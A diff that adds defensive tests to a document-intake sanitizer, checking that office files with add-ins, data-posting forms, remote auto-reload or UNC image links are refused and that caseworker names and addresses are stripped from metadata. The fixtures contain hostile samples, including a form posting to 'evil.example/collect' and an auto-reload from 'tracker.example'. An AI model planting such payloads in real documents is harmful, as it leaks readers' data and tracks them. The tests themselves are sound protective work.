@@ -446,3 +446,55 @@ def test_loose_vml_as_office_writes_it_is_checked_without_being_refused_as_damag
     assert intake(ooxml("xlsx", extra=[("xl/drawings/vmlDrawing1.vml", loose)])).kind == "office"
     hostile = loose.replace(b"<br>", b'<br><v:imagedata o:href="\\\\files.example\\share\\p.png"/>')
     assert "a drawing (VML)" in refusal(ooxml("xlsx", extra=[("xl/drawings/vmlDrawing1.vml", hostile)]))
+
+
+def test_office_add_in_is_refused():
+    data = ooxml("docx", extra=[("word/webextensions/webextension1.xml", b"<we:webextension xmlns:we='x'/>")])
+    assert "an Office add-in (web extension)" in refusal(data)
+
+
+@pytest.mark.parametrize(
+    ("body", "found"),
+    [
+        ('<text:p><form:form xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" '
+         'xlink:href="https://evil.example/collect" form:method="post"/></text:p>', "a form that sends"),
+    ],
+)
+def test_odt_form_that_sends_is_refused(body, found):
+    assert found in refusal(odt_with(odt_content(body)))
+
+
+def test_odt_meta_that_reloads_from_an_address_is_refused():
+    meta = (f'<office:document-meta {ODF_NS}><office:meta>'
+            '<meta:auto-reload xlink:href="https://tracker.example/next.odt" meta:delay="PT0S"/>'
+            "</office:meta></office:document-meta>")
+    assert "loaded from another address" in refusal(odt(extra=[("meta.xml", meta.encode())]))
+
+
+def test_word_document_variables_are_removed():
+    settings = (f'<w:settings {W}><w:docVars><w:docVar w:name="CaseOwner" w:val="Jane Caseworker"/></w:docVars>'
+                '<w:defaultTabStop w:val="720"/></w:settings>')
+    stored = entries(intake(ooxml("docx", extra=[("word/settings.xml", settings.encode())])).content)
+    assert b"Jane" not in stored["word/settings.xml"] and b"defaultTabStop" in stored["word/settings.xml"]
+
+
+def test_sharepoint_properties_kept_in_custom_xml_parts_are_removed():
+    """Word keeps a library's document properties (people, addresses) in customXml/item*.xml, not docProps."""
+    sharepoint = (
+        '<p:properties xmlns:p="http://schemas.microsoft.com/office/2006/metadata/properties">'
+        "<documentManagement><CaseWorker><UserInfo><DisplayName>Jane Caseworker</DisplayName>"
+        "<AccountId>jane.caseworker@refuge.example</AccountId></UserInfo></CaseWorker>"
+        "<SiteAddress>27 Harbour Lane</SiteAddress></documentManagement></p:properties>"
+    )
+    item_props = ('<ds:datastoreItem ds:itemID="{6D3A1F2B-0000-4000-8000-000000000001}" '
+                  'xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>')
+    bare_text = "<Notes>Keyworker Sam at 27 Harbour Lane</Notes>"
+    data = ooxml("docx", extra=[("customXml/item1.xml", sharepoint.encode()),
+                                ("customXml/itemProps1.xml", item_props.encode()),
+                                ("customXml/Item2.xml", bare_text.encode())])
+    stored = entries(intake(data, "plan.docx").content)
+    everything = b"".join(stored.values())
+    for secret in (b"Jane Caseworker", b"refuge.example", b"Harbour Lane", b"Sam"):
+        assert secret not in everything
+    assert b"properties" in stored["customXml/item1.xml"]  # the part stays, so the package still opens
+    assert b"6D3A1F2B" in stored["customXml/itemProps1.xml"]
